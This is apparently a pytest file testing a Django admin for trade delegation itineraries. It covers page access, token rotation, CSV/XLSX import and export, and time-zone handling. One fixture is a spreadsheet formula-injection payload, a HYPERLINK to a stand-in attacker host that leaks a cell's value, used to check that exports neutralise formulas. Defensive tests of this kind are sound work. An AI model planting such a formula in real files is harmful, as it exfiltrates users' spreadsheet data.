import re
from datetime import UTC, datetime
from io import BytesIO

import pytest
from django.contrib import admin
from django.contrib.auth.models import Group
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import RequestFactory
from django.urls import reverse

from delegations.models import Member
from itinerary.demo_missions import load_demo_missions
from itinerary.models import Meeting, TravelLeg
from publishing.models import Notice
from tests import factories
from tests.factories import (
    CityFactory,
    DelegationFactory,
    MeetingFactory,
    MemberFactory,
    NoticeFactory,
    OrganisationFactory,
    PlacementFactory,
    StayFactory,
    TravelLegFactory,
)

pytestmark = pytest.mark.django_db

REGISTERED_MODELS = sorted(admin.site._registry, key=lambda model: model._meta.label)


def _admin_url(model, view, *args):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)


@pytest.fixture
def demo(db):
    load_demo_missions()
    Group.objects.create(name="Trade office staff")


@pytest.mark.parametrize("model", REGISTERED_MODELS, ids=lambda model: model._meta.label)
def test_every_admin_changelist_add_and_change_page_renders(admin_client, admin_user, demo, model):
    assert admin_client.get(_admin_url(model, "changelist")).status_code == 200
    if model._meta.app_label in ("axes", "django_tasks_database"):
        return  # records of failed logins and of tasks: read-only, and none in the demo
    request = RequestFactory().get("/")
    request.user = admin_user
    can_add = admin.site._registry[model].has_add_permission(request)
    assert admin_client.get(_admin_url(model, "add")).status_code == (200 if can_add else 403)
    obj = model.objects.order_by("pk").last()
    if obj is None and model is Notice:
        obj = NoticeFactory()  # the demo is published without notices
    if obj is None and model._meta.app_label == "matchmaking":
        placement = PlacementFactory()  # the demo's B2B session loads apart from the missions
        factories.RequestFactory(requester=placement.seller, target=placement.buyer)
        obj = model.objects.order_by("pk").last()
    assert obj is not None, f"the demo missions hold no {model._meta.verbose_name}"
    assert admin_client.get(_admin_url(model, "change", obj.pk)).status_code == 200


def test_every_domain_model_is_in_the_admin():
    labels = {model._meta.label for model in REGISTERED_MODELS}
    expected = {
        "delegations.Organisation", "delegations.Delegation", "delegations.Member",
        "itinerary.City", "itinerary.Stay", "itinerary.Meeting", "itinerary.TravelLeg",
    }  # fmt: skip
    assert expected <= labels


def test_admin_changelists_with_filters_render(admin_client, demo):
    meeting = MeetingFactory()
    urls = [
        _admin_url(Member, "changelist") + "?role__exact=head",
        _admin_url(Member, "changelist") + f"?delegation__id__exact={meeting.delegation.pk}",
        _admin_url(type(meeting), "changelist")
        + f"?kind__exact=b2b&status__exact=confirmed&city__id__exact={meeting.city.pk}",
        _admin_url(type(meeting), "changelist") + "?starts_at__year=2016&starts_at__month=10",
    ]  # fmt: skip
    for url in urls:
        assert admin_client.get(url).status_code == 200, url


def test_admin_is_closed_to_anonymous_and_non_staff_users(client):
    from tests.factories import UserFactory

    response = client.get(_admin_url(Member, "changelist"))
    assert response.status_code == 302 and "/login/" in response["Location"]
    client.force_login(UserFactory(is_staff=False))
    response = client.get(_admin_url(Member, "changelist"))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def _changelist_names(client, query):
    response = client.get(_admin_url(Member, "changelist") + query)
    assert response.status_code == 200
    return {member.full_name for member in response.context["cl"].result_list}


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("?q=avdis", {"Panorea Avdis"}),
        ("?q=Energy+Commission", {"Robert B. Weisenmiller", "Energy Commission representative"}),
        ("?q=weisenmiller%40energy.ca.gov", {"Robert B. Weisenmiller"}),
    ],
)
def test_member_search_finds_by_name_organisation_and_email(admin_client, demo, query, expected):
    Member.objects.filter(full_name="Robert B. Weisenmiller").update(email="weisenmiller@energy.ca.gov")
    assert _changelist_names(admin_client, query) == expected


def test_member_filters_by_role_and_organisation(admin_client, demo):
    heads = _changelist_names(admin_client, "?role__exact=head")
    assert heads == {"Panorea Avdis", "Robert B. Weisenmiller", "Jeffrey Chang"}
    organisation = Member.objects.get(full_name="Jeffrey Chang").organisation
    by_org = _changelist_names(admin_client, f"?organisation__id__exact={organisation.pk}")
    assert by_org == {"Jeffrey Chang", "MCSC team member"}


def test_delegation_change_page_has_members_and_stays_inline(admin_client):
    stay = StayFactory(hotel_name="China World Hotel")
    MemberFactory(delegation=stay.delegation, full_name="Panorea Avdis")
    response = admin_client.get(_admin_url(type(stay.delegation), "change", stay.delegation.pk))
    content = response.content.decode()
    assert "Panorea Avdis" in content
    assert "China World Hotel" in content


def test_rotate_member_tokens_action_asks_first_and_changes_nothing_until_confirmed(admin_client):
    chosen = MemberFactory(full_name="Panorea Avdis")
    old = chosen.feed_token
    response = admin_client.post(
        _admin_url(Member, "changelist"), {"action": "rotate_feed_tokens", "_selected_action": [chosen.pk]}
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert "Panorea Avdis" in content and "stop working at once" in content
    assert 'name="post" value="yes"' in content and f'value="{chosen.pk}"' in content
    chosen.refresh_from_db()
    assert chosen.feed_token == old


def test_rotate_delegation_token_action_asks_first(admin_client):
    delegation = MemberFactory().delegation
    old = delegation.feed_token
    url = _admin_url(type(delegation), "changelist")
    data = {"action": "rotate_feed_token", "_selected_action": [delegation.pk]}
    response = admin_client.post(url, data)
    assert response.status_code == 200 and "stop working at once" in response.content.decode()
    delegation.refresh_from_db()
    assert delegation.feed_token == old
    response = admin_client.post(url, {**data, "post": "yes"}, follow=True)
    assert "Rotated the feed token of 1 delegation" in response.content.decode()
    delegation.refresh_from_db()
    assert delegation.feed_token != old


def test_rotate_member_tokens_action_replaces_only_selected_tokens(admin_client):
    chosen, untouched = MemberFactory(), MemberFactory()
    old_chosen, old_untouched = chosen.feed_token, untouched.feed_token
    response = admin_client.post(
        _admin_url(Member, "changelist"),
        {"action": "rotate_feed_tokens", "_selected_action": [chosen.pk], "post": "yes"},
        follow=True,
    )
    assert "Rotated the feed tokens of 1 member" in response.content.decode()
    chosen.refresh_from_db()
    untouched.refresh_from_db()
    assert chosen.feed_token != old_chosen and len(chosen.feed_token) == 43
    assert untouched.feed_token == old_untouched


def test_deleting_an_organisation_in_use_shows_a_readable_refusal(admin_client):
    organisation = OrganisationFactory(name="LeEco")
    MeetingFactory().counterparts.add(organisation)
    MemberFactory(organisation=organisation, full_name="Member of LeEco")
    url = _admin_url(type(organisation), "delete", organisation.pk)
    response = admin_client.get(url)
    assert response.status_code == 200
    assert "would require deleting the following protected related objects" in response.content.decode()
    assert "Member of LeEco" in response.content.decode()
    response = admin_client.post(url, {"post": "yes"})
    assert response.status_code == 200
    assert type(organisation).objects.filter(pk=organisation.pk).exists()


def test_deleting_a_city_in_use_shows_a_readable_refusal(admin_client):
    leg = TravelLegFactory()
    response = admin_client.get(_admin_url(type(leg.origin), "delete", leg.origin.pk))
    assert "protected related objects" in response.content.decode()


# --- CSV import and export ----------------------------------------------------------------------


def _import(client, csv_text: str):
    upload = SimpleUploadedFile("members.csv", csv_text.encode(), content_type="text/csv")
    return client.post(_admin_url(Member, "import"), {"import_file": upload, "format": "0", "resource": "0"})


def _confirm(client, preview):
    form = preview.context["confirm_form"]
    return client.post(_admin_url(Member, "process_import"), form.initial, follow=True)


HEADER = "delegation,full_name,local_name,title,organisation,role,email,phone,notes,is_active\n"


def test_importing_a_good_csv_previews_then_saves_every_row(admin_client):
    delegation = DelegationFactory(slug="ca-china-2016")
    OrganisationFactory(name="California Energy Commission", country="United States")
    csv_text = HEADER + (
        "ca-china-2016,Robert B. Weisenmiller,,Chair,California Energy Commission,Head of delegation,"
        "chair@energy.ca.gov,+1 916 555 0100,,1\n"
        'ca-china-2016,李明,李明,Interpreter,,interpreter,,,"Speaks Mandarin, Cantonese",\n'
    )
    preview = _import(admin_client, csv_text)
    assert preview.status_code == 200
    assert preview.context["result"].has_errors() is False
    assert not preview.context["result"].has_validation_errors()
    assert Member.objects.count() == 0  # the preview saves nothing
    _confirm(admin_client, preview)
    members = {m.full_name: m for m in delegation.members.all()}
    assert set(members) == {"Robert B. Weisenmiller", "李明"}
    assert members["Robert B. Weisenmiller"].role == Member.Role.HEAD
    assert members["Robert B. Weisenmiller"].organisation.name == "California Energy Commission"
    assert members["李明"].notes == "Speaks Mandarin, Cantonese"
    assert members["李明"].is_active is True


def test_importing_the_same_csv_twice_updates_instead_of_duplicating(admin_client):
    DelegationFactory(slug="ca-china-2016")
    csv_text = HEADER + "ca-china-2016,Jeffrey Chang,,Chairman,,head,,,,1\n"
    _confirm(admin_client, _import(admin_client, csv_text))
    _confirm(admin_client, _import(admin_client, csv_text.replace("Chairman", "Chair")))
    assert list(Member.objects.values_list("full_name", "title")) == [("Jeffrey Chang", "Chair")]


def test_importing_a_csv_with_bad_rows_shows_row_errors_and_saves_nothing(admin_client):
    delegation = DelegationFactory(slug="ca-china-2016")
    MemberFactory(delegation=delegation, full_name="Existing", email="taken@example.org")
    csv_text = HEADER + (
        "ca-china-2016,Good Row,,,,executive,good@example.org,,,1\n"
        "no-such-mission,Wrong Mission,,,,executive,,,,1\n"
        "ca-china-2016,Bad Email,,,,executive,not-an-email,,,1\n"
        "ca-china-2016,Bad Role,,,,astronaut,,,,1\n"
        "ca-china-2016,Duplicate Email,,,,executive,TAKEN@example.org,,,1\n"
        "ca-china-2016,Unknown Org,,,Nobody Inc,executive,,,,1\n"
    )
    response = _import(admin_client, csv_text)
    assert response.status_code == 200
    content = response.content.decode()
    assert "No delegation called &#x27;no-such-mission&#x27;" in content
    assert "Enter a valid email address" in content
    assert "Unknown role &#x27;astronaut&#x27;" in content
    assert "already has this e-mail address" in content
    assert "No organisation called &#x27;Nobody Inc&#x27;" in content
    assert "confirm_form" not in response.context or response.context["confirm_form"] is None
    assert list(Member.objects.values_list("full_name", flat=True)) == ["Existing"]


def test_importing_a_file_that_is_not_csv_shows_an_error_and_saves_nothing(admin_client):
    response = _import(admin_client, "\x00\x01 this is not a spreadsheet")
    assert response.status_code == 200
    assert Member.objects.count() == 0


def test_exporting_members_as_csv_leaves_out_feed_tokens(admin_client):
    member = MemberFactory(full_name="Panorea Avdis", email="avdis@example.org", role=Member.Role.HEAD)
    response = admin_client.post(
        _admin_url(Member, "export"),
        {"format": "0", "resource": "0", **{f"memberresource_{f}": "on" for f in (
            "delegation", "full_name", "local_name", "title", "organisation", "role", "email", "phone",
            "notes", "is_active")}},
    )  # fmt: skip
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    assert body.splitlines()[0].startswith("delegation,full_name")
    assert f"{member.delegation.slug},Panorea Avdis" in body
    assert "Head of delegation" in body
    assert member.feed_token not in body
    assert not re.search(r"feed_token", body)


@pytest.mark.parametrize("model", REGISTERED_MODELS, ids=lambda model: model._meta.label)
def test_admin_pages_are_for_staff_with_permissions_only(client, model):
    from tests.factories import UserFactory

    url = _admin_url(model, "changelist")
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "/login/" in anonymous["Location"]
    client.force_login(UserFactory(username="visitor", is_staff=False))
    assert client.get(url).status_code == 302  # to the admin's own log-in page
    client.force_login(UserFactory(username="staff-without-permissions", is_staff=True))
    assert client.get(url).status_code == 403


# --- Meeting and leg times in the city's local time ---------------------------------------------


def _as_rendered(response, **changes) -> dict:
    """What a browser sends back for the admin form on `response` as shown, with `changes` typed in."""
    data = {}
    forms = [response.context["adminform"].form]
    for inline in response.context["inline_admin_formsets"]:
        management = inline.formset.management_form
        data.update({management[name].html_name: management[name].value() for name in management.fields})
        forms += inline.formset.initial_forms
    for form in forms:
        for field in form:
            value = field.value()
            if isinstance(value, datetime):
                value = field.field.widget.format_value(value)
            if value is not None and value is not False:
                data[field.html_name] = [str(v) for v in value] if isinstance(value, list) else str(value)
    return data | changes


def test_admin_meeting_time_is_typed_in_the_citys_local_time(admin_client):
    meeting = MeetingFactory(
        city=CityFactory(), starts_at=datetime(2016, 10, 25, 6, 0, tzinfo=UTC),
        ends_at=datetime(2016, 10, 25, 7, 0, tzinfo=UTC),
    )  # fmt: skip
    url = _admin_url(Meeting, "change", meeting.pk)
    data = _as_rendered(admin_client.get(url), starts_at="2016-10-25 09:30", ends_at="2016-10-25 11:00")
    response = admin_client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    meeting.refresh_from_db()
    assert meeting.starts_at == datetime(2016, 10, 25, 1, 30, tzinfo=UTC)  # 09:30 in Beijing
    assert meeting.ends_at == datetime(2016, 10, 25, 3, 0, tzinfo=UTC)


def test_admin_change_page_shows_the_stored_time_in_the_citys_local_time(admin_client):
    meeting = MeetingFactory(city=CityFactory())  # 09:30 in Beijing, stored as 01:30 UTC
    assert meeting.starts_at == datetime(2016, 10, 25, 1, 30, tzinfo=UTC)
    response = admin_client.get(_admin_url(Meeting, "change", meeting.pk))
    field = response.context["adminform"].form["starts_at"]
    assert 'value="2016-10-25T09:30"' in str(field)
    assert "Local time in Beijing: CST, UTC+8." in response.content.decode()


def test_admin_leg_departs_in_its_origins_zone_and_arrives_in_its_destinations(admin_client):
    leg = TravelLegFactory()  # San Francisco 12:50 PDT to Beijing 16:55 CST
    url = _admin_url(TravelLeg, "change", leg.pk)
    page = admin_client.get(url)
    assert 'value="2016-10-23T12:50"' in str(page.context["adminform"].form["departs_at"])
    assert 'value="2016-10-24T16:55"' in str(page.context["adminform"].form["arrives_at"])
    data = _as_rendered(page, departs_at="2016-10-23 13:50", arrives_at="2016-10-24 17:55")
    response = admin_client.post(url, data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    leg.refresh_from_db()
    assert leg.departs_at == datetime(2016, 10, 23, 20, 50, tzinfo=UTC)  # PDT is UTC-7
    assert leg.arrives_at == datetime(2016, 10, 24, 9, 55, tzinfo=UTC)  # CST is UTC+8


def test_admin_adds_a_leg_in_local_times(admin_client):
    delegation = DelegationFactory()
    origin = CityFactory(name="Sacramento", country="United States", timezone="America/Los_Angeles")
    beijing = CityFactory()
    page = admin_client.get(_admin_url(TravelLeg, "add"))
    data = _as_rendered(
        page, delegation=delegation.pk, origin=origin.pk, destination=beijing.pk,
        departs_at="2016-11-07 09:30", arrives_at="2016-11-08 15:00",
    )  # fmt: skip
    response = admin_client.post(_admin_url(TravelLeg, "add"), data)
    assert response.status_code == 302, response.context["adminform"].form.errors
    leg = TravelLeg.objects.get(delegation=delegation)
    assert leg.departs_at == datetime(2016, 11, 7, 17, 30, tzinfo=UTC)  # PST is UTC-8
    assert leg.arrives_at == datetime(2016, 11, 8, 7, 0, tzinfo=UTC)


def test_admin_refuses_a_time_the_clocks_skip(admin_client):
    sacramento = CityFactory(name="Sacramento", country="United States", timezone="America/Los_Angeles")
    meeting = MeetingFactory(city=sacramento)
    stored = meeting.starts_at
    url = _admin_url(Meeting, "change", meeting.pk)
    # 13 March 2016 02:30 never happened in California: clocks went from 02:00 to 03:00.
    data = _as_rendered(admin_client.get(url), starts_at="2016-03-13 02:30", ends_at="2016-03-13 04:00")
    response = admin_client.post(url, data)
    assert response.status_code == 200
    assert "does not exist in America/Los_Angeles" in response.content.decode()
    meeting.refresh_from_db()
    assert meeting.starts_at == stored


def test_admin_refuses_attendees_from_another_delegation(admin_client):
    meeting = MeetingFactory()
    own, stranger = MemberFactory(delegation=meeting.delegation), MemberFactory(full_name="Someone Else")
    url = _admin_url(Meeting, "change", meeting.pk)
    response = admin_client.post(url, _as_rendered(admin_client.get(url), attendees=[own.pk, stranger.pk]))
    assert response.status_code == 200
    assert "Not members of" in response.content.decode() and "Someone Else" in response.content.decode()
    assert list(meeting.attendees.all()) == []


# --- Files that open in Excel: a CSV with a byte-order mark, and XLSX --------------------------

MEMBER_FIELDS = (
    "delegation", "full_name", "local_name", "title", "organisation", "role", "email", "phone", "notes",
    "is_active",
)  # fmt: skip


def _export(client, file_format: str):
    formats = [f().get_title() for f in admin.site._registry[Member].get_export_formats()]
    data = {"format": str(formats.index(file_format)), "resource": "0"}
    response = client.post(
        _admin_url(Member, "export"), data | {f"memberresource_{f}": "on" for f in MEMBER_FIELDS}
    )
    assert response.status_code == 200
    return response


def _import_file(client, name: str, content: bytes, file_format: str):
    formats = [f().get_title() for f in admin.site._registry[Member].get_import_formats()]
    upload = SimpleUploadedFile(name, content)
    data = {"import_file": upload, "format": str(formats.index(file_format)), "resource": "0"}
    return client.post(_admin_url(Member, "import"), data)


def test_member_admin_offers_csv_and_xlsx_for_import_and_export(admin_client):
    for view in ("import", "export"):
        choices = dict(admin_client.get(_admin_url(Member, view)).context["form"].fields["format"].choices)
        assert sorted(choices.values()) == ["---", "csv", "xlsx"], view


def test_csv_export_starts_with_a_byte_order_mark_and_round_trips_korean_and_chinese(admin_client):
    delegation = DelegationFactory(slug="korea-2024")
    MemberFactory(delegation=delegation, full_name="Kim Daniel", local_name="김다니엘", title="대표이사")
    MemberFactory(delegation=delegation, full_name="Li Ming", local_name="李明", notes="北京, 上海")
    response = _export(admin_client, "csv")
    assert response["Content-Type"].startswith("text/csv")
    assert response.content.startswith(b"\xef\xbb\xbf")  # what tells Excel the file is UTF-8
    body = response.content.decode("utf-8-sig")
    assert body.splitlines()[0].startswith("delegation,full_name,local_name")
    assert "korea-2024,Kim Daniel,김다니엘,대표이사" in body
    assert 'korea-2024,Li Ming,李明,,,Executive,,,"北京, 上海",1' in body

    Member.objects.all().delete()
    preview = _import_file(admin_client, "members.csv", response.content, "csv")
    assert not preview.context["result"].has_validation_errors()
    _confirm(admin_client, preview)
    assert set(delegation.members.values_list("full_name", "local_name", "title", "notes")) == {
        ("Kim Daniel", "김다니엘", "대표이사", ""),
        ("Li Ming", "李明", "", "北京, 上海"),
    }


def test_xlsx_export_opens_in_openpyxl_with_the_names_intact(admin_client):
    from openpyxl import load_workbook

    member = MemberFactory(full_name="Kim Daniel", local_name="김다니엘", title="北京 office")
    response = _export(admin_client, "xlsx")
    assert response["Content-Disposition"].endswith('.xlsx"')
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("delegation", "full_name", "local_name", "title")
    assert rows[1][:4] == (member.delegation.slug, "Kim Daniel", "김다니엘", "北京 office")


def test_xlsx_export_imports_back_unchanged(admin_client):
    delegation = DelegationFactory(slug="korea-2024")
    organisation = OrganisationFactory(name="Korea Trade-Investment Promotion Agency")
    MemberFactory(
        delegation=delegation, full_name="Kim Daniel", local_name="김다니엘", organisation=organisation,
        role=Member.Role.HEAD, email="daniel@example.org", phone="+82 2 3460 7114",
    )  # fmt: skip
    content = _export(admin_client, "xlsx").content
    preview = _import_file(admin_client, "members.xlsx", content, "xlsx")
    result = preview.context["result"]
    assert not result.has_errors(), [e.traceback for _, errors in result.row_errors() for e in errors]
    assert not result.has_validation_errors()
    assert [row.import_type for row in result.valid_rows()] == ["skip"]  # nothing changed


FORMULA_NOTE = '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")'


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_member_exports_write_a_formula_as_text_and_import_back_unchanged(admin_client, file_format):
    from openpyxl import load_workbook

    MemberFactory(full_name="@Kim Daniel", notes=FORMULA_NOTE, phone="+82 2 3460 7114", title="-")
    content = _export(admin_client, file_format).content
    if file_format == "csv":
        body = content.decode("utf-8-sig")
        quoted = FORMULA_NOTE.replace('"', '""')
        assert f'"\'{quoted}"' in body  # OWASP's apostrophe, then CSV quoting
        assert ",'@Kim Daniel," in body and ",'+82 2 3460 7114," in body and ",'-," in body
    else:
        sheet = load_workbook(BytesIO(content)).active
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert {cell.data_type for cell in cells} <= {"s", "inlineStr"}  # no formula cell ("f")
        assert FORMULA_NOTE in [cell.value for cell in cells]
    preview = _import_file(admin_client, f"members.{file_format}", content, file_format)
    result = preview.context["result"]
    assert not result.has_errors() and not result.has_validation_errors()
    assert [row.import_type for row in result.valid_rows()] == ["skip"]  # read back as it was


def test_importing_an_xlsx_file_adds_its_members(admin_client):
    from openpyxl import Workbook

    delegation = DelegationFactory(slug="china-2016")
    workbook = Workbook()
    workbook.active.append(["delegation", "full_name", "local_name", "role", "is_active"])
    workbook.active.append(["china-2016", "Li Ming", "李明", "Interpreter", None])
    content = BytesIO()
    workbook.save(content)
    preview = _import_file(admin_client, "members.xlsx", content.getvalue(), "xlsx")
    assert not preview.context["result"].has_validation_errors()
    _confirm(admin_client, preview)
    member = delegation.members.get()
    assert (member.full_name, member.local_name, member.role, member.is_active) == (
        "Li Ming", "李明", Member.Role.INTERPRETER, True,
    )  # fmt: skip


def test_importing_a_csv_with_a_byte_order_mark_reads_the_first_column(admin_client):
    delegation = DelegationFactory(slug="china-2016")
    content = "\ufeffdelegation,full_name,local_name\nchina-2016,Kim Daniel,김다니엘\n".encode()
    preview = _import_file(admin_client, "members.csv", content, "csv")
    result = preview.context["result"]
    assert result.diff_headers[0] == "delegation"
    assert not result.has_errors() and not result.has_validation_errors()
    _confirm(admin_client, preview)
    assert list(delegation.members.values_list("full_name", "local_name")) == [("Kim Daniel", "김다니엘")]


# --- Import errors and previews that read without hovering ------------------------------------


def _without_tags(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", "", html))


def test_import_errors_are_listed_in_the_page_with_the_files_line_numbers(admin_client):
    DelegationFactory(slug="china-2016")
    csv_text = HEADER + (
        "china-2016,Good Row,,,,executive,good@example.org,,,1\n"  # line 2
        "china-2016,Another Good Row,,,,executive,,,,1\n"  # line 3
        "china-2016,Bad Email,,,,executive,not-an-email,,,1\n"  # line 4
    )
    response = _import(admin_client, csv_text)
    html = response.content.decode()
    # import.css hides a .validation-error-container until the mouse is over its cell.
    assert "validation-error-container" not in html
    assert "Line 4 email: Enter a valid email address." in _without_tags(html)
    assert "Line 3" not in _without_tags(html)


def test_import_preview_shows_a_changed_value_old_struck_out_then_new(admin_client):
    delegation = DelegationFactory(slug="china-2016")
    MemberFactory(delegation=delegation, full_name="Jeffrey Chang", title="Chief Executive Officer")
    response = _import(admin_client, "delegation,full_name,title\nchina-2016,Jeffrey Chang,CEO\n")
    html = response.content.decode()
    assert "<del>Chief Executive Officer</del> → <ins>CEO</ins>" in html
    assert "style=" not in html.split('class="import-preview"')[1]  # the CSP would block it


def test_a_member_import_with_a_nul_byte_is_refused_in_words_before_the_database(admin_client):
    # PostgreSQL refuses NUL in text: the import used to end in a 500 there.
    DelegationFactory(slug="china-2016")
    content = b"delegation,full_name,notes\nchina-2016,Li Ming,NUL\x00note\n"
    response = _import_file(admin_client, "members.csv", content, "csv")
    assert response.status_code == 200
    assert (
        response.context["form"]
        .errors["import_file"][0]
        .startswith("Line 2, column C: the cell holds a NUL character (byte 0)")
    )
    assert not Member.objects.exists()


def test_a_member_csv_saved_by_excel_on_windows_imports_with_its_accents(admin_client):
    delegation = DelegationFactory(slug="france-2024")
    content = "delegation,full_name,title\nfrance-2024,Hélène Dupré,Déléguée – export\n".encode("cp1252")
    preview = _import_file(admin_client, "members.csv", content, "csv")
    assert (
        not preview.context["result"].has_errors() and not preview.context["result"].has_validation_errors()
    )
    _confirm(admin_client, preview)
    assert list(delegation.members.values_list("full_name", "title")) == [
        ("Hélène Dupré", "Déléguée – export")
    ]
